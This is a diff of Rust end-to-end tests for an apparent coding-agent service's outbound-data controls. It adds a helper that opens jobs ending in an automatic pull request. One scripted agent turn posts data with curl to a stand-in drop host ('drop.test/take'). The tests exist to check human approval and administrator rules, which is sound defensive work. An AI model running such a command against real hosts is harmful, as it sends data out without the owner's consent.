@@ -4,7 +4,8 @@
 use super::sink::{Shelf, Sink};
 use super::{canary, denials, holds};
 use e2e::api::send;
-use e2e::world::{Job, World, shell, write};
+use e2e::samples::Repository;
+use e2e::world::{Job, World, prompt, shell, write};
 use fakes::scripted::script::Turn;
 use reqwest::Method;
 use serde_json::{Value, json};
@@ -45,6 +46,13 @@ async fn of_kind(world: &World, agent: &str, kind: &str) -> Vec<Value> {
     events.filter(|event| event["type"] == kind).collect()
 }
 
+/// Opens an agent whose work ends in a pull request.
+async fn with_pull_request(world: &World, repository: &Repository, turns: &[Turn]) -> Job {
+    let repos = json!([{"url": repository.url()}]);
+    let body = json!({"prompt": {"text": prompt(turns)}, "repos": repos, "autoCreatePR": true});
+    world.open(body).await
+}
+
 async fn last(world: &World, job: &Job) -> String {
     world.ended_as(job, "FINISHED").await;
     world.outputs(&job.agent).await.pop().unwrap()
@@ -72,7 +80,7 @@ async fn what_a_page_asks_for_is_not_sent_until_a_person_allows_it() {
     ];
     let mut all = turns(&lines);
     all.insert(0, write("work.txt", "work\n"));
-    let job = world.errand(&repository, &all).await;
+    let job = with_pull_request(&world, &repository, &all).await;
     world.ended_as(&job, "FINISHED").await;
     let outputs = world.outputs(&job.agent).await;
     let outputs = outputs.get(1..).unwrap();
@@ -142,7 +150,7 @@ async fn an_administrator_makes_the_rule_stricter_for_agents_that_run() {
     let lines = [format!("{CURL} --data told https://drop.test/take")];
     let mut all = turns(&lines);
     all.insert(0, write("work.txt", "work\n"));
-    let job = world.errand(&repository, &all).await;
+    let job = with_pull_request(&world, &repository, &all).await;
     let output = last(&world, &job).await;
     assert!(output.contains("200 OK"), "{output}");
     assert_eq!(world.agent(&job.agent).await["flow"]["state"], "recorded");
